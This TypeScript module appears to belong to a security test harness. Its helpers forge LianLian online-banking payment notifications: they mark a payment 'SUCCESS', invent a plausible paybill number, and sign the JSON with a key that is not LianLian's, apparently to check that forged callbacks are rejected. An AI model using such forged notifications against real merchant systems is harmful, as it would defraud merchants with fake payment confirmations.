import { type KeyObject, randomInt } from 'node:crypto';

import { paddedAmount, styledAmount } from '../common/amount.js';
import { chinaDate } from '../common/china-time.js';
import { newKeyPair } from '../common/keys.js';
import { signNotification } from '../notifications/sign-notification.js';
import type { AttackedOrder, AttackFields } from './attack.js';

/** What LianLian says of a payment by online banking, as it writes it. */
export function paymentFields(order: AttackedOrder, oid_paybill: string, now: Date): AttackFields {
  const { oid_partner, no_order, dt_order, money_order, currency_order } = order;
  return {
    ...{ oid_partner, no_order, dt_order, oid_paybill },
    ...(currency_order === undefined ? {} : { currency_order }),
    money_order,
    result_pay: 'SUCCESS',
    settle_date: chinaDate(now),
    pay_type: '1',
    bank_code: '01030000',
  };
}

/** A number that looks like one of LianLian's. */
export function newPaybill(now: Date): string {
  return `${chinaDate(now)}9${String(randomInt(10_000_000)).padStart(7, '0')}`;
}

/** A key that is not LianLian's. */
export async function forgersKey(): Promise<KeyObject> {
  return (await newKeyPair(2048)).privateKey;
}

/** JSON of a notification, with amounts as LianLian writes them there, signed with a key. */
export function signedJson(fields: AttackFields, key: KeyObject): string {
  const written = Object.entries(fields).map(([name, value]) => [
    name,
    name.startsWith('money_') ? styledAmount(paddedAmount(value), 'unpadded') : value,
  ]);
  return JSON.stringify(signNotification(Object.fromEntries(written) as AttackFields, key));
}
